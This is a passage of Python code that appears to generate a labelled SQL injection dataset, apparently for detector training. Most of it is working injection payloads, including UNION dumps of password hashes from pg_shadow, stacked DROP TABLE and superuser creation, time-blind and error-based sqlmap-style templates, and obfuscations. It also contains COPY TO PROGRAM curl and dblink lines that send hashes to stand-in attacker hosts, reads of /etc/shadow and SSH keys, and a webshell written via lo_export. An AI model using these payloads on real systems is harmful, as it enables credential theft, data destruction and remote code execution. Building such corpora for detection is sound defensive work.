        return [("and_sleep_notnull", "AND pg_sleep(%d) IS NOT NULL" % s), ("or_sub_sleep_isnull", "OR (SELECT 1 FROM pg_sleep(%d)) IS NULL" % s),
                ("stack_sleep_for", "; SELECT pg_sleep_for('%d seconds')" % s),
                ("and_heavy_series", "AND (SELECT count(*) FROM generate_series(1,%d))>0" % rnum(20000000, 90000000)),
                ("and_case_sleep", "AND 1=(CASE WHEN %s THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (inf_pg(), s)),
                ("and_sleep_until", "AND (SELECT pg_sleep_until(clock_timestamp() + interval '%d s')) IS NULL" % s),
                ("and_cross_join_heavy", "AND (SELECT count(*) FROM pg_class a, pg_class b, pg_class c)>%d" % rnum(1, 9)),
                ("and_repeat_md5", "AND length(repeat(md5('x'),%d))>0" % rnum(50000000, 99999999))]
    if family == "union":
        nul = ", NULL" * rnum(0, 3)
        return [("union_shadow", "UNION SELECT usename, passwd%s FROM pg_shadow" % nul),
                ("union_all_columns", "UNION ALL SELECT table_name, column_name%s FROM information_schema.columns WHERE table_schema='public'" % nul),
                ("union_authid", "UNION SELECT rolname, rolpassword%s FROM pg_authid" % nul),
                ("union_database", "UNION ALL SELECT datname, NULL%s FROM pg_database" % nul),
                ("union_settings", "UNION SELECT name, setting%s FROM pg_settings WHERE name LIKE '%%file%%'" % nul),
                ("union_server_addr", "UNION SELECT inet_server_addr()::text, inet_server_port()::text%s" % nul),
                ("union_user_version", "UNION ALL SELECT current_user, version()%s" % nul),
                ("union_paren_stat", "UNION (SELECT usename, client_addr::text%s FROM pg_stat_activity)" % nul)]
    if family == "stacked":
        pw = rword(8, string.ascii_lowercase)
        return [("drop_table", "; DROP TABLE %s CASCADE" % pick(["pets", "library_loans", "workspace_seats", "fleet_trips", "vet_clients"])),
                ("create_superuser", "; CREATE ROLE %s SUPERUSER LOGIN PASSWORD '%s'" % (rword(6, string.ascii_lowercase), pw)),
                ("promote_user", "; UPDATE console_operators SET is_admin = true WHERE handle = '%s'" % w),
                ("grant_public", "; GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"),
                ("truncate", "; TRUNCATE audit_events, usage_records"),
                ("alter_system", "; ALTER SYSTEM SET log_statement = 'none'; SELECT pg_reload_conf()"),
                ("kill_backends", "; SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"),
                ("insert_admin", "; INSERT INTO console_operators (handle, pin_hash, is_admin) VALUES ('%s', crypt('%s', gen_salt('bf')), true)" % (w, pw)),
                ("replica_role", "; SET session_replication_role = replica; DELETE FROM payments"),
                ("drop_schema", "; DROP SCHEMA public CASCADE")]
    if family == "oob_file_program":
        host = rword(6, string.ascii_lowercase) + pick([".oast.example", ".attacker.example", ".burpcollab.example"])
        return [("copy_to_program_curl", "; COPY (SELECT passwd FROM pg_shadow) TO PROGRAM 'curl -d @- http://%s/'" % host),
                ("copy_from_program_id", "; CREATE TEMP TABLE o%s(t text); COPY o%s FROM PROGRAM 'id; uname -a'" % (w, w)),
                ("copy_to_file", "; COPY (SELECT * FROM console_operators) TO '/tmp/%s.csv'" % w),
                ("copy_from_file", "; COPY pets(pet_name) FROM '/etc/passwd'"),
                ("lo_import_shadow", "; SELECT lo_import('/etc/shadow', %d)" % rnum(40000, 49999)),
                ("lo_export_webshell", "; SELECT lo_export(%d, '/var/www/html/%s.php')" % (rnum(40000, 49999), w)),
                ("read_file_conf", "AND 1=(SELECT length(pg_read_file('postgresql.auto.conf'))>0)::int"),
                ("read_binary", "UNION SELECT encode(pg_read_binary_file('/etc/hostname'),'escape'), NULL"),
                ("ls_logdir", "; SELECT * FROM pg_ls_logdir()"),
                ("stat_file", "AND (pg_stat_file('/root/.ssh/id_rsa')).size>0"),
                ("dblink_exfil", "; SELECT dblink_connect('host=%s user=a password='||(SELECT string_agg(passwd,'') FROM pg_shadow)||' dbname=d')" % host),
                ("dblink_exec", "AND (SELECT count(*) FROM dblink('host=%s dbname=x', 'SELECT 1') AS t(a int))>0" % host),
                ("nslookup_program", "; COPY (SELECT '') TO PROGRAM 'nslookup '||current_user||'.%s'" % host)]
    if family == "plpgsql_do_exec":
        f = rword(6, string.ascii_lowercase)
        return [("do_tagged_execute", "; DO $%s$ BEGIN EXECUTE 'DROP TABLE pets'; END $%s$" % (w[:3], w[:3])),
                ("do_format_exec", "; DO $$ BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', current_user); END $$"),
                ("do_perform_sleep", "; DO $$ BEGIN PERFORM pg_sleep(%d); END $$" % rnum(4, 9)),
                ("do_language_string", "; DO LANGUAGE plpgsql 'BEGIN EXECUTE ''TRUNCATE library_loans''; END'"),
                ("create_secdef_func", "; CREATE FUNCTION %s() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN UPDATE console_operators SET is_admin = true; END $f$" % f),
                ("create_plpython", "; CREATE OR REPLACE FUNCTION %s() RETURNS text AS $p$ import os; return os.popen('id').read() $p$ LANGUAGE plpython3u" % f),
                ("do_loop_drop", "; DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables WHERE schemaname='public' LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename) || ' CASCADE'; END LOOP; END $$"),
                ("do_chr_exec", "; DO $$ BEGIN EXECUTE chr(68)||chr(82)||chr(79)||chr(80)||' TABLE exam_scores'; END $$")]
    if family == "error_cast":
        return [("cast_version_int", "AND 1=CAST(version() AS int)"), ("subselect_int", "AND 1=(SELECT current_user)::int"),
                ("shadow_numeric", "AND (SELECT passwd FROM pg_shadow LIMIT 1)::numeric=0"),
                ("setting_integer", "AND 1=cast(current_setting('data_directory') as integer)"),
                ("string_agg_bigint", "AND 1=(SELECT string_agg(usename,':') FROM pg_user)::bigint"),
                ("div_count_zero", "AND 1=1/(SELECT count(*)-count(*) FROM pg_user)"),
                ("db_xml_int", "AND 1=(database_to_xml(true,true,''))::text::int"),
                ("json_obj_int", "AND json_build_object('v',version())::text::int=1"),
                ("int4_db", "AND 1=int4(current_database())"),
                ("to_date_bad", "AND to_date((SELECT passwd FROM pg_shadow LIMIT 1),'YYYY')>now()"),
                ("array_int", "AND (SELECT array_agg(rolname) FROM pg_roles)::text::int[] IS NULL"),
                ("inet_cast", "AND current_user::inet IS NOT NULL")]
    if family == "dollar_quote":
        tag = pick(["$$", "$x$", "$q1$", "$" + w[:2] + "$"])
        dq = lambda v: tag + v + tag
        return [("and_user_dollar", "AND current_user=" + dq("postgres")), ("or_dollar_tautology", "OR %s=%s" % (dq("a"), dq("a"))),
                ("union_dollar", "UNION SELECT %s, passwd FROM pg_shadow" % dq("u")),
                ("stack_insert_dollar", "; INSERT INTO console_operators (handle, is_admin) VALUES (%s, true)" % dq(w)),
                ("and_setting_dollar", "AND current_setting(%s) IS NOT NULL" % dq("data_directory")),
                ("or_like_dollar", "OR current_user LIKE %s" % dq("%")),
                ("stack_update_dollar", "; UPDATE vet_clients SET legal_name = %s" % dq("pwned"))]
    if family == "e_escape":
        return [("and_user_octal", "AND current_user=E'\\160\\157stgres'"), ("or_e_hex", "OR E'\\x41'='A'"),
                ("union_e_unicode", "UNION SELECT E'\\u0061dmin', passwd FROM pg_shadow"),
                ("uescape_and", "AND current_user=U&'\\0070ostgres'"), ("uescape_custom", "OR U&'!0041' UESCAPE '!'='A'"),
                ("stack_e_role", "; ALTER ROLE CURRENT_USER SET search_path = E'\\x70ublic'"),
                ("and_e_setting", "AND current_setting(E'data\\x5fdirectory') LIKE '/%'")]
    if family == "string_concat_subquery":
        return [("concat_shadow", "||(SELECT passwd FROM pg_shadow LIMIT 1)||"), ("concat_setting", "||current_setting('hba_file')||"),
                ("concat_version", "||version()||"), ("concat_tables", "||(SELECT string_agg(table_name,',') FROM information_schema.tables)||"),
                ("concat_chr_user", "||chr(%d)||(select session_user)||" % rnum(33, 90)), ("concat_sleep", "||(SELECT pg_sleep(%d))::text||" % rnum(3, 8)),
                ("concat_inet", "||coalesce(inet_server_addr()::text,'')||")]
    if family == "comment_truncation":
        return [("slash_star", "/*"), ("dashdash_nospace", "--"), ("dashdash_word", "-- " + w), ("semicolon_dash", ";--"),
                ("dashdash_newline", "--\n"), ("nested_open", "/* /* */")]
    raise KeyError(family)


def gen_hand(family, n_target):
    got = 0
    tries = 0
    while got < n_target and tries < n_target * 40:
        tries += 1
        cores = hand_cores(family)
        var, core = pick(cores)
        if family == "string_concat_subquery":
            t, s = pick(STR_SLOTS + ESTR_SLOTS)
            o = orig_for(t, s)
            payload = o + "'" + core + "'"
        elif family == "comment_truncation":
            t, s = pick(VALUE_SLOTS + ORDER_SLOTS)
            brk, d = breakout(t, s)
            o = orig_for(t, s) if t["slots"][s]["kind"] not in ("ident", "dir") else benign_value(t, s)
            if t["slots"][s]["kind"] in ("num", "int") and not o:
                o = pick(INT_POOL)
            payload = o + brk + pick(["", " "]) + core
        elif family in ("stacked", "plpgsql_do_exec") or core.startswith(";"):
            t, s = pick(VALUE_SLOTS + ORDER_SLOTS)
            payload = wrap(t, s, core, mode=pick(["comment", "comment", "none"]))
        else:
            t, s = pick(VALUE_SLOTS + ORDER_SLOTS)
            if t["slots"][s]["kind"] in ("ident", "dir") and family in ("tautology", "boolean_blind", "union"):
                # ORDER BY position: turn the predicate into an expression
                if family == "union":
                    payload = benign_value(t, s) + " " + core + tail_comment()
                else:
                    payload = "(CASE WHEN (%s) THEN 1 ELSE 2 END)" % core.split(" ", 1)[1]
            else:
                payload = wrap(t, s, core)
        if try_attack(t, s, payload, family, family + ":" + var):
            got += 1
    return got


def escape_bypass(n_target):
    got = 0
    cores = [("or_true", "OR true"), ("union_user", "UNION SELECT usename FROM pg_user"), ("stack_drop", "; DROP TABLE kennel_notes"),
             ("sleep", "AND pg_sleep(6) IS NULL"), ("concat_pw", "|| (SELECT passwd FROM pg_shadow LIMIT 1) ||")]
    tries = 0
    while got < n_target and tries < 400:
        tries += 1
        t, s = pick(ESTR_SLOTS)
        var, core = pick(cores)
        o = pick(["", "x", "memo", "abc"])
        raw = o + "\\' " + core + pick(["--", "-- -", "--+"]) if not core.startswith("|") else o + "\\' " + core + " '"
        # application doubles quotes only (forgets backslashes)
        spliced = raw.replace("'", "''")
        rawv, vals = benign_fill_all(t)
        rawv[s] = raw
        vals[s] = spliced
        sql = fill(t, vals)
        if skeleton(sql) in BENIGN_SK[t["name"]]:
            continue
        if add(sql, "attack", "escape_bypass_backslash", t["name"], "escape_bypass_backslash:" + var,
               [rawv[x] for x in t["slots"]], raw):
            got += 1
    return got


# ---------------------------------------------------------------------------
# Obfuscations
# ---------------------------------------------------------------------------
KW = ["SELECT", "UNION", "FROM", "WHERE", "AND", "OR", "DROP", "TABLE", "CASE", "WHEN", "THEN", "ELSE", "END",
      "INSERT", "INTO", "VALUES", "UPDATE", "SET", "ALL", "NULL", "LIMIT", "NOT", "EXISTS", "GRANT", "CREATE", "ROLE"]


def case_mix(s):
    def f(m):
        w = m.group(0)
        return "".join(c.upper() if R.random() < 0.5 else c.lower() for c in w)
    return re.sub(r"[A-Za-z_]{2,}", f, s)


def inline_comment(s):
    out = []
    for part in re.split(r"( +)", s):
        if part.strip() == "" and part:
            out.append(pick(["/**/", "/*%s*/" % rword(3), "/* */", "/*!*/"]))
        else:
            if part.upper() in ("UNION", "SELECT", "SLEEP") and R.random() < 0.3 and len(part) > 4:
                k = len(part) // 2
                part = part  # keep keyword intact: PG has no MySQL versioned comments
            out.append(part)
    return "".join(out)


def nospace(s):
    s = re.sub(r" *([=<>(),;|]+) *", r"\1", s)
    s = re.sub(r"'\s+(OR|AND|UNION)\s+", r"'\1 ", s)
    s = s.replace(" OR ", "OR ").replace(" AND ", "AND ")
    return s


def odd_ws(s):
    return re.sub(r" +", lambda m: "".join(pick(["\t", "\n", "\r\n", "\f", "  ", "\t \n", "\r"]) for _ in range(R.randint(1, 2))), s)


OBF = {"obf_case_mix": case_mix, "obf_inline_comment": inline_comment, "obf_nospace": nospace, "obf_whitespace": odd_ws}


def gen_obf(family, n_target):
    f = OBF[family]
    got = 0
    tries = 0
    bases = ["tautology", "union", "stacked", "boolean_blind", "time_pg_sleep", "error_cast"]
    while got < n_target and tries < n_target * 40:
        tries += 1
        base = pick(bases)
        var, core = pick(hand_cores(base))
        t, s = pick(VALUE_SLOTS)
        brk, d = breakout(t, s)
        o = orig_for(t, s)
        if t["slots"][s]["kind"] in ("num", "int") and not o:
            o = pick(INT_POOL)
        body = f(core if core.startswith(";") else " " + core)
        if family == "obf_nospace" and not core.startswith(";") and t["slots"][s]["kind"] in ("num", "int", "ilist"):
            body = body if body.startswith(" ") else body
        tl = pick(["--", "-- -", "--+", "/*", ""])
        if tl == "" and t["slots"][s]["kind"] in ("str", "estr"):
            w = rword(3)
            tl = f(" AND '%s'='%s" % (w, w))
        payload = o + brk + body + tl
        if try_attack(t, s, payload, family, family + ":" + base + ":" + var):
            got += 1
    return got


# ---------------------------------------------------------------------------
# sqlmap-style payloads (payload + boundary families made concrete)
# ---------------------------------------------------------------------------
def q_pg():
    return pick(["CURRENT_USER", "CURRENT_DATABASE()", "VERSION()", "CURRENT_SCHEMA()",
                 "(SELECT COALESCE(CAST(usename AS VARCHAR(10000))::text,(CHR(32))) FROM pg_user OFFSET %d LIMIT 1)" % rnum(0, 4),
                 "(SELECT COALESCE(CAST(passwd AS VARCHAR(10000))::text,(CHR(32))) FROM pg_shadow OFFSET %d LIMIT 1)" % rnum(0, 3),
                 "(SELECT COALESCE(CAST(COUNT(table_name) AS VARCHAR(10000))::text,(CHR(32))) FROM information_schema.tables WHERE table_schema IN (%s))" % chrenc("public"),
                 "(SELECT COALESCE(CAST(schemaname AS VARCHAR(10000))::text,(CHR(32))) FROM pg_tables OFFSET %d LIMIT 1)" % rnum(0, 30)])


def inf_generic():
    a = rnum(1000, 9999)
    return pick(["%d=%d" % (a, a), "%d=%d" % (a, a + rnum(1, 50)),
                 "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (q_pg(), rnum(1, 12), rnum(32, 126)),
                 "LENGTH(%s)>%d" % (pick(["CURRENT_USER", "CURRENT_DATABASE()"]), rnum(1, 20)),
                 "(SELECT COUNT(*) FROM pg_tables)>%d" % rnum(10, 200),
                 "(SELECT COUNT(*) FROM pg_user WHERE usesuper IS TRUE)>%d" % rnum(0, 2)])


def q_mysql():
    return pick(["(SELECT MID((IFNULL(CAST(USER() AS NCHAR),0x20)),1,%d))" % rnum(40, 60),
                 "(SELECT MID((IFNULL(CAST(schema_name AS NCHAR),0x20)),1,%d) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT %d,1)" % (rnum(40, 60), rnum(0, 5)),
                 "(SELECT IFNULL(CAST(@@version AS NCHAR),0x20))", "(ELT(%d=%d,1))" % ((lambda x: (x, x))(rnum(1000, 9999)))])


def q_mssql():
    return pick(["(SELECT ISNULL(CAST(SYSTEM_USER AS NVARCHAR(4000)),CHAR(32)))", "(SELECT ISNULL(CAST(@@VERSION AS NVARCHAR(4000)),CHAR(32)))",
                 "(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))" % ((lambda x: (x, x))(rnum(1000, 9999)))])


def q_ora():
    return pick(["(SELECT NVL(CAST(USER AS VARCHAR(4000)),CHR(32)) FROM DUAL)", "(SELECT NVL(CAST(BANNER AS VARCHAR(4000)),CHR(32)) FROM v$version WHERE ROWNUM=1)",
                 "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)" % ((lambda x: (x, x))(rnum(1000, 9999)))])


def mysql_hex(s):
    return "0x" + hexs(s)


def sqlmap_payload(family):
    """Return (title, dbms, payload_core, replace) where replace=True means parameter replacement."""
    a, b, c = rnum(1000, 9999), rnum(1000, 9999), rnum(1000, 9999)
    t = rnum(2, 9)
    ds, de = delim(), delim()
    inf = inf_generic()
    rs = rword(4)
    if family == "sqlmap_boolean_blind":
        opts = [
            ("AND boolean-based blind - WHERE or HAVING clause", "generic", "AND %s" % inf, False),
            ("OR boolean-based blind - WHERE or HAVING clause", "generic", "OR %s" % inf, False),
            ("OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "OR NOT %d=%d" % (a, b), False),
            ("AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (a, inf, a, b, c), False),
            ("PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST('%s' AS NUMERIC) END)) IS NULL" % (inf, rs), False),
            ("PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST((%s) AS NUMERIC) END)) IS NULL" % (inf, chrenc(rs)), False),
            ("PostgreSQL boolean-based blind - Parameter replace", "PostgreSQL", "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (inf, a), True),
            ("PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (a, a, inf), True),
            ("PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % inf, "order"),
            ("PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", "PostgreSQL", ",(SELECT * FROM GENERATE_SERIES(1,1,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % inf, "order"),
            ("PostgreSQL boolean-based blind - Stacked queries", "PostgreSQL", ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (inf, a), False),
            ("PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", "PostgreSQL", ";SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1" % (a, a, inf), False),
            ("MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "MySQL", "RLIKE (SELECT (CASE WHEN (%d=%d) THEN %s ELSE 0x28 END))" % (a, a, mysql_hex(rs)), False),
            ("MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "MySQL", "AND MAKE_SET(%d=%d,%d)" % (a, a, b), False),
            ("MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "MySQL", "OR ELT(%d=%d,%d)" % (a, a, b), False),
            ("MySQL boolean-based blind - Parameter replace (bool*int)", "MySQL", "(%d=%d)*%d" % (a, a, b), True),
            ("Microsoft SQL Server/Sybase boolean-based blind - Parameter replace", "Microsoft SQL Server", "(SELECT (CASE WHEN (%d=%d) THEN %d ELSE %d*(SELECT %d UNION ALL SELECT %d) END))" % (a, a, b, b, b, c), True),
            ("Oracle AND boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "AND (SELECT (CASE WHEN (%d=%d) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL) IS NULL" % (a, a, b), False),
            ("SQLite AND boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "SQLite", "AND CASE WHEN %d=%d THEN %d ELSE JSON(CHAR(%d,%d,%d,%d)) END" % (a, a, a, *[ord(ch) for ch in rs]), False),
            ("HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "HAVING %s" % inf, False),
            ("Boolean-based blind - Parameter replace (original value)", "generic", "(SELECT (CASE WHEN (%s) THEN {orig} ELSE (SELECT %d UNION SELECT %d) END))" % (inf, b, c), True),
            ("IBM DB2 AND boolean-based blind - WHERE or HAVING clause", "IBM DB2", "AND %d=(SELECT (CASE WHEN (%d=%d) THEN %d ELSE RAISE_ERROR(70001,'%s') END) FROM SYSIBM.SYSDUMMY1)" % (a, b, b, a, rs), False),
        ]
    elif family == "sqlmap_error_based":
        Q = q_pg()
        opts = [
            ("PostgreSQL AND error-based - WHERE or HAVING clause", "PostgreSQL", "AND %d=CAST('%s'||(%s)::text||'%s' AS NUMERIC)" % (a, ds, Q, de), False),
            ("PostgreSQL OR error-based - WHERE or HAVING clause", "PostgreSQL", "OR %d=CAST('%s'||(%s)::text||'%s' AS NUMERIC)" % (a, ds, Q, de), False),
            ("PostgreSQL AND error-based - WHERE or HAVING clause (CHR)", "PostgreSQL", "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (a, chrenc(ds), Q, chrenc(de)), False),
            ("PostgreSQL error-based - Parameter replace", "PostgreSQL", "(CAST('%s'||(%s)::text||'%s' AS NUMERIC))" % (ds, Q, de), True),
            ("PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "(CAST('%s'||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))::text||'%s' AS NUMERIC))" % (ds, a, a, de), True),
            ("PostgreSQL error-based - ORDER BY, GROUP BY clause", "PostgreSQL", ",(CAST('%s'||(%s)::text||'%s' AS NUMERIC))" % (ds, Q, de), "order"),
            ("PostgreSQL error-based - Stacked queries", "PostgreSQL", ";SELECT CAST('%s'||(%s)::text||'%s' AS NUMERIC)" % (ds, Q, de), False),
            ("MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "MySQL", "AND EXTRACTVALUE(%d,CONCAT(0x5c,%s,%s,%s))" % (a, mysql_hex(ds), q_mysql(), mysql_hex(de)), False),
            ("MySQL >= 5.1 OR error-based - WHERE or HAVING clause (UPDATEXML)", "MySQL", "OR UPDATEXML(%d,CONCAT(0x2e,%s,%s,%s),%d)" % (a, mysql_hex(ds), q_mysql(), mysql_hex(de), b), False),
            ("MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "MySQL", "AND (SELECT %d FROM(SELECT COUNT(*),CONCAT(%s,%s,%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (a, mysql_hex(ds), q_mysql(), mysql_hex(de)), False),
            ("MySQL >= 5.5 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXP)", "MySQL", "AND EXP(~(SELECT * FROM (SELECT CONCAT(%s,%s,%s,0x78))x))" % (mysql_hex(ds), q_mysql(), mysql_hex(de)), False),
            ("MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "MySQL", "AND GTID_SUBSET(CONCAT(%s,%s,%s),%d)" % (mysql_hex(ds), q_mysql(), mysql_hex(de), a), False),
            ("MySQL >= 5.7.8 OR error-based - WHERE or HAVING clause (JSON_KEYS)", "MySQL", "OR JSON_KEYS((SELECT CONVERT((SELECT CONCAT(%s,%s,%s)) USING utf8)))" % (mysql_hex(ds), q_mysql(), mysql_hex(de)), False),
            ("Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "Microsoft SQL Server", "AND %d IN (SELECT ('%s'+%s+'%s'))" % (a, ds, q_mssql(), de), False),
            ("Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (CONVERT)", "Microsoft SQL Server", "OR %d=CONVERT(INT,(SELECT CHAR(%d)+CHAR(%d)+%s+CHAR(%d)))" % (a, ord(ds[0]), ord(ds[1]), q_mssql(), ord(de[0])), False),
            ("Oracle AND error-based - WHERE or HAVING clause (XMLType)", "Oracle", "AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||'%s'||(REPLACE(REPLACE(REPLACE(REPLACE(%s,' ','_'),'$','(DOLLAR)'),'@','(AT)'),'#','(HASH)'))||'%s'||CHR(62))) FROM DUAL)" % (a, ds, q_ora(), de), False),
            ("Oracle AND error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "Oracle", "AND %d=UTL_INADDR.GET_HOST_ADDRESS('%s'||%s||'%s')" % (a, ds, q_ora(), de), False),
            ("Oracle OR error-based - WHERE or HAVING clause (DBMS_UTILITY.SQLID_TO_SQLHASH)", "Oracle", "OR %d=DBMS_UTILITY.SQLID_TO_SQLHASH(('%s'||%s||'%s'))" % (a, ds, q_ora(), de), False),
            ("Firebird AND error-based - WHERE or HAVING clause", "Firebird", "AND %d=('%s'||(SELECT CASE %d WHEN %d THEN 1 ELSE 0 END FROM RDB$DATABASE)||'%s')" % (a, ds, b, b, de), False),
            ("IBM DB2 AND error-based - WHERE or HAVING clause", "IBM DB2", "AND %d=RAISE_ERROR('70001','%s'||(SELECT CURRENT SERVER FROM SYSIBM.SYSDUMMY1)||'%s')" % (a, ds, de), False),
            ("H2 AND error-based - WHERE or HAVING clause", "H2", "AND %d=CAST('%s'||(SELECT DATABASE())||'%s' AS INT)" % (a, ds, de), False),
            ("SQLite AND error-based - WHERE or HAVING clause (JSON)", "SQLite", "AND %d=JSON('%s'||(SELECT sqlite_version())||'%s')" % (a, ds, de), False),
        ]
    elif family == "sqlmap_time_blind":
        opts = [
            ("PostgreSQL > 8.1 AND time-based blind", "PostgreSQL", "AND %d=(SELECT %d FROM PG_SLEEP(%d))" % (a, a, t), False),
            ("PostgreSQL > 8.1 OR time-based blind", "PostgreSQL", "OR %d=(SELECT %d FROM PG_SLEEP(%d))" % (a, a, t), False),
            ("PostgreSQL AND time-based blind (heavy query)", "PostgreSQL", "AND %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d000000))" % (a, t), False),
            ("PostgreSQL OR time-based blind (heavy query - comment)", "PostgreSQL", "OR %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d000000))" % (a, t), False),
            ("PostgreSQL > 8.1 time-based blind - Parameter replace", "PostgreSQL", "(SELECT %d FROM PG_SLEEP(%d))" % (a, t), True),
            ("PostgreSQL time-based blind - Parameter replace (heavy query)", "PostgreSQL", "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d000000))" % t, True),
            ("PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", ",(SELECT %d FROM PG_SLEEP(%d))" % (a, t), "order"),
            ("PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", "PostgreSQL", ",(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d000000))" % t, "order"),
            ("PostgreSQL > 8.1 AND time-based blind (conditional)", "PostgreSQL", "AND %d=(CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (a, inf, a, t, a), False),
            ("MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "AND (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (a, t, rs), False),
            ("MySQL >= 5.0.12 OR time-based blind (SLEEP)", "MySQL", "OR SLEEP(%d)" % t, False),
            ("MySQL AND time-based blind (BENCHMARK)", "MySQL", "AND %d=BENCHMARK(%d000000,MD5(%s))" % (a, t, mysql_hex(rs)), False),
            ("MySQL >= 5.0.12 RLIKE time-based blind", "MySQL", "RLIKE SLEEP(%d)" % t, False),
            ("MySQL >= 5.0.12 time-based blind - Parameter replace (substraction)", "MySQL", "(SELECT %d FROM (SELECT(SLEEP(%d-(IF(%d=%d,0,%d)))))%s)" % (a, t, b, b, t, rs), True),
            ("Microsoft SQL Server/Sybase time-based blind (IF)", "Microsoft SQL Server", "WAITFOR DELAY '0:0:%d'" % t, False),
            ("Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "Microsoft SQL Server", "AND %d=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6)" % a, False),
            ("Oracle AND time-based blind", "Oracle", "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (a, chrenc(rs), t), False),
            ("Oracle OR time-based blind (heavy query)", "Oracle", "OR %d=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)" % a, False),
            ("SQLite > 2.0 AND time-based blind (heavy query)", "SQLite", "AND %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % (a, t), False),
            ("Firebird >= 2.0 AND time-based blind (heavy query)", "Firebird", "AND %d=(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)" % a, False),
            ("HSQLDB > 2.0 AND time-based blind (heavy query)", "HSQLDB", "AND CHAR(%d)||CHAR(%d)=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(%d),0),%d00000000),NULL)" % (ord(rs[0]), ord(rs[1]), a, t), False),
            ("IBM DB2 AND time-based blind (heavy query)", "IBM DB2", "AND %d=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)" % a, False),
            ("ClickHouse AND time-based blind (heavy query)", "ClickHouse", "AND %d=(SELECT count(fuzzBits('%s', 0.001)) FROM numbers(%d000000))" % (a, rs, t), False),
        ]
    elif family == "sqlmap_stacked_queries":
        opts = [
            ("PostgreSQL > 8.1 stacked queries (comment)", "PostgreSQL", ";SELECT PG_SLEEP(%d)--" % t, False),
            ("PostgreSQL > 8.1 stacked queries", "PostgreSQL", ";SELECT PG_SLEEP(%d)" % t, False),
            ("PostgreSQL stacked queries (heavy query - comment)", "PostgreSQL", ";SELECT COUNT(*) FROM GENERATE_SERIES(1,%d000000)--" % t, False),
